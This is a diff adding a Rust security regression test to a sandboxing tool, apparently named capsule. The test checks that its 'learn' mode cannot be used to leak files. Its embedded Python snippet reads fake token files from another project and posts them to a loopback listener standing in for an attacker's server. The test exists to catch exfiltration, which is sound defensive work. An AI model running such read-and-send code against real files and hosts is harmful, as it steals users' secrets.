@@ -149,3 +149,77 @@ fn allow_unix_sockets_reaches_no_host_socket_outside_the_grants() {
     let out = r.child_stdout();
     assert!(out.starts_with("errno"), "{}", r.ctx());
 }
+
+/// `capsule learn` runs an untrusted command several times, each round
+/// with what the earlier rounds learnt. It keeps learnt *writes* out of its
+/// own rounds (for review), but let learnt reads and, with
+/// `--learn-hosts`, learnt hosts through. So the command chose its own
+/// exfiltration: round 1 asks to read files of another project (outside
+/// every grant, not a credential location) and to reach its own server;
+/// round 2, given both, sends the files there — during `learn`, before the
+/// user reviewed the draft. A loopback listener stands in for the server.
+#[test]
+fn learn_lets_no_round_send_what_it_learnt_to_read() {
+    use std::io::{Read, Write};
+    let sb = Sandbox::new();
+    let other = sb.mkdir("other-project");
+    for d in ["a", "b"] {
+        sb.write(
+            &format!("other-project/{d}/notes.env"),
+            &format!("TOKEN-{d}-redteam8\n"),
+        );
+    }
+    let proj = sb.mkdir("proj");
+    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind loopback");
+    let port = l.local_addr().expect("addr").port();
+    let (tx, rx) = std::sync::mpsc::channel::<String>();
+    std::thread::spawn(move || {
+        for s in l.incoming().flatten() {
+            let mut s = s;
+            s.set_read_timeout(Some(std::time::Duration::from_secs(2)))
+                .ok();
+            let mut buf = vec![0u8; 8192];
+            let n = s.read(&mut buf).unwrap_or(0);
+            let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
+            let _ = s.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n");
+        }
+    });
+    let code = format!(
+        "import urllib.request\n\
+         data = b''\n\
+         for d in ('a', 'b'):\n\
+         \x20   try: data += open('{o}/' + d + '/notes.env', 'rb').read()\n\
+         \x20   except OSError: pass\n\
+         try: urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:{port}/x', data=data or b'-'), timeout=5)\n\
+         except Exception as e: print('refused', e)\n",
+        o = other.display()
+    );
+    let draft = sb.path("draft.yaml");
+    let py = python();
+    let args = [
+        "learn",
+        "--learn-hosts",
+        "--no-audit",
+        "-o",
+        draft.to_str().unwrap(),
+        "--",
+        py.as_str(),
+        "-c",
+        code.as_str(),
+    ];
+    let r = sb.run_in(&args, &proj, b"");
+    let got: Vec<String> = rx.try_iter().collect();
+    assert!(
+        !got.iter().any(|g| g.contains("TOKEN-")),
+        "a round of learn sent the files it learnt to read to the host it learnt: {got:?}{}",
+        r.ctx()
+    );
+    // Learning still works: the draft names the reads and the host for review.
+    assert_eq!(r.code, Some(0), "{}", r.ctx());
+    let text = std::fs::read_to_string(&draft).unwrap_or_default();
+    assert!(
+        text.contains("notes.env") || text.contains("other-project"),
+        "{text}"
+    );
+    assert!(text.contains("\"127.0.0.1\""), "{text}");
+}
